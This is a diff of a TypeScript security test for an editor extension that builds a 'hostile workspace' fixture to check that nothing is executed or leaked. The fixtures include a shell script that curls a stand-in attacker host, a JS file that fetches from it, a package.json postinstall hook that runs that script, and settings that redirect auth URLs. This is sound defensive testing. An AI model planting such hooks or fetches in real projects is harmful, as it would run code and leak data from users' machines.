@@ -6,99 +6,74 @@
 import assert from "node:assert/strict";
 import { mkdir, writeFile } from "node:fs/promises";
 import { join } from "node:path";
-import { visit } from "../../sandbox/visit.ts";
-import type { Visit } from "../../sandbox/visit.ts";
 import { capture } from "../../secure/capture.ts";
 import type { Capture } from "../../secure/capture.ts";
 import { hostileSettings, settingsFiles, spellings, variables } from "../../secure/hostileCases.ts";
-import {
-  activeTab,
-  answer,
-  asks,
-  dialog,
-  notifications,
-  openView,
-  openWorkbench,
-  quickInput,
-  reloadWindow,
-  runCommand,
-  screenshot,
-  showFailure,
-  signIn,
-  squiggles,
-  treeItem,
-} from "../workbench.ts";
-import type { Workbench } from "../workbench.ts";
+import { useService } from "../story.ts";
+import { activeTab, squiggles } from "../editors.ts";
+import { dialog, notifications } from "../messages.ts";
+import { answer, asks, quickInput, reloadWindow, runCommand } from "../palette.ts";
+import { screenshot } from "../pictures.ts";
+import { openView, treeItem } from "../sideBar.ts";
+import { signIn } from "../signIn.ts";
 
 /** Of this machine, but no name that goes past a proxy; nobody listens there. */
 const behindProxy = "https://127.0.0.2:9";
 
-describe("a hostile workspace of many folders", function () {
-  this.bail(true);
-  let service: Visit;
+describe("a hostile workspace of many folders", () => {
   let evil: Capture;
-  let workbench: Workbench;
 
-  before(async () => {
-    service = await visit();
-    evil = await capture();
-    const own = new URL(service.ready.formsApiUrl).host;
-    const fill = (text: string): string =>
-      text
-        .replaceAll("$evilPort", String(evil.port))
-        .replaceAll("$evil", `127.0.0.1:${evil.port}`)
-        .replaceAll("$own", own)
-        .replaceAll("acme", "strandby");
-    const environment = Object.fromEntries(
-      variables.flatMap(([, given]) => Object.entries(given)).map(([name, value]) => [name, fill(value)]),
-    );
-    const write = (value: unknown): string => fill(JSON.stringify(value));
-    const program = fill("#!/bin/sh\ncurl -s http://$evil/program\n");
-    const script = fill("require('node:http').get('http://$evil/script');");
-    const names = hostileSettings.map((_, index) => `case-${index}`);
-    const folders = hostileSettings.flatMap(([, settings], index) => {
-      const [, spell] = spellings[index % spellings.length] ?? assert.fail();
-      const [, content] = settingsFiles[index % settingsFiles.length] ?? assert.fail();
-      return Object.entries({
-        ".vscode/settings.json": write(spell(settings)),
-        "smartform.json": fill(content),
-        "letter.sft": "Dear [[ customer,\n",
-        evil: program,
-        node: program,
-        smartform: program,
-        "evil.js": script,
-        ".env": Object.entries(environment)
-          .map((pair) => pair.join("="))
-          .join("\n"),
-        "package.json": write({ main: "evil.js", scripts: { postinstall: "./evil" } }),
-        "sandbox.json": write({ ready: true, authUrl: "http://$evil", formsApiUrl: "http://$evil" }),
-      }).map(([name, text]) => [`case-${index}/${name}`, text] as const);
-    });
-    const smartform = service.ready.demo.smartforms.singleStep;
-    workbench = await openWorkbench({
-      workspaceFile: "hostile.code-workspace",
-      files: {
-        ...Object.fromEntries(folders),
-        "case-0/person.form.json": write({ dialogDefinitionId: smartform, values: { name: "Bo" } }),
-        "hostile.code-workspace": write({
-          folders: names.map((path) => ({ path })),
-          settings: {
-            ...Object.fromEntries(hostileSettings.toReversed().flatMap(([, settings]) => Object.entries(settings))),
-            "terminal.integrated.env.linux": environment,
-          },
-        }),
-      },
-    });
-  });
-
-  afterEach(async function () {
-    if (this.currentTest?.state === "failed") await showFailure(workbench, "hostile-workspace");
-  });
-
-  after(async () => {
-    await workbench?.[Symbol.asyncDispose]();
-    await service?.close();
-    await evil?.[Symbol.asyncDispose]();
+  const { service, workbench, it } = useService("hostile-workspace", {
+    options: async (undo) => {
+      evil = undo.use(await capture());
+      const own = new URL(service.ready.formsApiUrl).host;
+      const fill = (text: string): string =>
+        text
+          .replaceAll("$evilPort", String(evil.port))
+          .replaceAll("$evil", `127.0.0.1:${evil.port}`)
+          .replaceAll("$own", own)
+          .replaceAll("acme", "strandby");
+      const environment = Object.fromEntries(
+        variables.flatMap(([, given]) => Object.entries(given)).map(([name, value]) => [name, fill(value)]),
+      );
+      const write = (value: unknown): string => fill(JSON.stringify(value));
+      const program = fill("#!/bin/sh\ncurl -s http://$evil/program\n");
+      const script = fill("require('node:http').get('http://$evil/script');");
+      const names = hostileSettings.map((_, index) => `case-${index}`);
+      const folders = hostileSettings.flatMap(([, settings], index) => {
+        const [, spell] = spellings[index % spellings.length] ?? assert.fail();
+        const [, content] = settingsFiles[index % settingsFiles.length] ?? assert.fail();
+        return Object.entries({
+          ".vscode/settings.json": write(spell(settings)),
+          "smartform.json": fill(content),
+          "letter.sft": "Dear [[ customer,\n",
+          evil: program,
+          node: program,
+          smartform: program,
+          "evil.js": script,
+          ".env": Object.entries(environment)
+            .map((pair) => pair.join("="))
+            .join("\n"),
+          "package.json": write({ main: "evil.js", scripts: { postinstall: "./evil" } }),
+          "sandbox.json": write({ ready: true, authUrl: "http://$evil", formsApiUrl: "http://$evil" }),
+        }).map(([name, text]) => [`case-${index}/${name}`, text] as const);
+      });
+      const smartform = service.ready.demo.smartforms.singleStep;
+      return {
+        workspaceFile: "hostile.code-workspace",
+        files: {
+          ...Object.fromEntries(folders),
+          "case-0/person.form.json": write({ dialogDefinitionId: smartform, values: { name: "Bo" } }),
+          "hostile.code-workspace": write({
+            folders: names.map((path) => ({ path })),
+            settings: {
+              ...Object.fromEntries(hostileSettings.toReversed().flatMap(([, settings]) => Object.entries(settings))),
+              "terminal.integrated.env.linux": environment,
+            },
+          }),
+        },
+      };
+    },
   });
 
   const assertUntouched = (): void => {
